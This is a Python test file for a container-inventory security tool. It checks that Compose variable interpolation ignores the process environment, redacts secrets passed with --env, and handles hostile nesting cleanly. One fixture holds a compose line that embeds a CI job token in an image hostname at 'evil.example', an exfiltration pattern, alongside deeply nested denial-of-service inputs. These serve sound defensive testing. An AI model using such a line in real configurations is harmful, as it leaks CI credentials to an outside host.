"""Compose variables come only from the file's .env, its own defaults and what the user
passes (--env NAME, --env-file), never from the whole process environment; values taken from
the environment never reach an output. Hostile nesting is one clear issue, not a traceback."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from hullguard.cli.main import app
from hullguard.errors import InputError
from hullguard.inventory.collect import collect
from hullguard.inventory.compose import (
    ENV_FILES_VARIABLE,
    ENV_NAMES_VARIABLE,
    MAX_NESTING,
    interpolate,
)

TOKEN = "glcbt-64-Zq9xW2vN7rT4kP1sL8"
HOSTILE = """services:
  app:
    image: ${CI_JOB_TOKEN}.evil.example/app:1
  web:
    image: ${REGISTRY:-registry.example}/web:${TAG}
"""


@pytest.fixture(autouse=True)
def environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """A CI job's environment; the flags' own variables restored after each test."""
    monkeypatch.setenv("CI_JOB_TOKEN", TOKEN)
    monkeypatch.setenv("TAG", "from-the-shell")
    monkeypatch.delenv(ENV_NAMES_VARIABLE, raising=False)
    monkeypatch.delenv(ENV_FILES_VARIABLE, raising=False)


def project(tmp_path: Path, dotenv: str = "TAG=2.0\n") -> Path:
    (tmp_path / "compose.yaml").write_text(HOSTILE)
    (tmp_path / ".env").write_text(dotenv)
    return tmp_path


def images_of(tmp_path: Path) -> list[str]:
    return sorted(str(i.ref) for i in collect([tmp_path]).images)


def test_process_environment_is_not_read(tmp_path: Path) -> None:
    project(tmp_path)
    inventory = collect([tmp_path])
    dump = json.dumps([str(i.ref) for i in inventory.images]) + \
        " ".join(str(issue) for issue in inventory.issues)
    assert TOKEN not in dump
    assert "registry.example/web:2.0" in dump  # .env and the file's default still apply
    assert "from-the-shell" not in dump


def test_cli_inventory_does_not_leak_the_token(tmp_path: Path) -> None:
    project(tmp_path)
    result = CliRunner().invoke(app, ["inventory", str(tmp_path), "-f", "json"])
    assert TOKEN not in result.output
    assert "registry.example/web:2.0" in result.output


def test_env_flag_passes_a_variable_and_redacts_it(tmp_path: Path) -> None:
    project(tmp_path)
    result = CliRunner().invoke(app, ["inventory", str(tmp_path), "-f", "json",
                                      "--env", "CI_JOB_TOKEN", "--env", "TAG"])
    assert result.exit_code == 0, result.output
    assert TOKEN not in result.output
    assert "***.evil.example/app:1" in result.output
    assert "registry.example/web:***" in result.output  # --env wins over .env


def test_env_file_flag(tmp_path: Path) -> None:
    project(tmp_path)
    extra = tmp_path / "ci.env"
    extra.write_text("REGISTRY=mirror.example\nTAG=3.1\n")
    result = CliRunner().invoke(app, ["inventory", str(tmp_path), "-f", "json",
                                      "--env-file", str(extra)])
    assert result.exit_code == 0, result.output
    assert "mirror.example/web:3.1" in result.output  # file values are not redacted
    assert TOKEN not in result.output


def test_env_flag_rejects_assignments(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["inventory", str(project(tmp_path)),
                                      "--env", "TOKEN=abc"])
    assert result.exit_code == 2
    assert "not a variable name" in result.output


@pytest.mark.parametrize("depth", [MAX_NESTING + 1, 5000])
def test_deep_nesting_is_one_clear_error(depth: int) -> None:
    text = "${A:-" * depth + "x" + "}" * depth
    with pytest.raises(InputError, match="nested more than"):
        interpolate(text, {})


def test_nesting_within_the_bound_works() -> None:
    text = "${A:-" * MAX_NESTING + "x" + "}" * MAX_NESTING
    assert interpolate(text, {}) == "x"


def test_hostile_nesting_in_a_file_is_an_issue_not_a_traceback(tmp_path: Path) -> None:
    nested = "${A:-" * 3000 + "x" + "}" * 3000
    selfref = "${A:+${A:+${A:+" * 400 + "}}}" * 400
    (tmp_path / "compose.yaml").write_text(
        f"services:\n  a:\n    image: '{nested}'\n  b:\n    image: '{selfref}'\n"
        "  c:\n    image: alpine:3.19\n")
    result = CliRunner().invoke(app, ["inventory", str(tmp_path), "-f", "json"],
                                env={"A": "set"})
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        result.exception
    assert "nested more than" in result.output
    assert "alpine:3.19" in result.output  # the rest of the file is still read


def test_respond_incident_folder_has_no_environment_value(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """--env values are redacted in the incident folder too (offline: nothing is pulled)."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("HULLGUARD_DB", raising=False)
    token = TOKEN.lower()  # a valid repository path segment: the image is really inventoried
    monkeypatch.setenv("CI_JOB_TOKEN", token)
    compose = tmp_path / "src"
    compose.mkdir()
    (compose / "compose.yaml").write_text(
        "services:\n  app:\n    image: registry.example/${CI_JOB_TOKEN}/app:1\n")
    out = tmp_path / "incident"
    result = CliRunner().invoke(app, ["respond", str(compose), "--offline", "--no-store",
                                      "--env", "CI_JOB_TOKEN", "--out", str(out), "-q"])
    assert result.exit_code == 0, result.output
    texts = {path.name: path.read_text() for path in out.rglob("*") if path.is_file()}
    assert "findings.json" in texts and "report.html" in texts
    assert not [name for name, text in texts.items() if token in text]
    assert "registry.example/***/app:1" in texts["findings.json"]
    assert token not in result.output
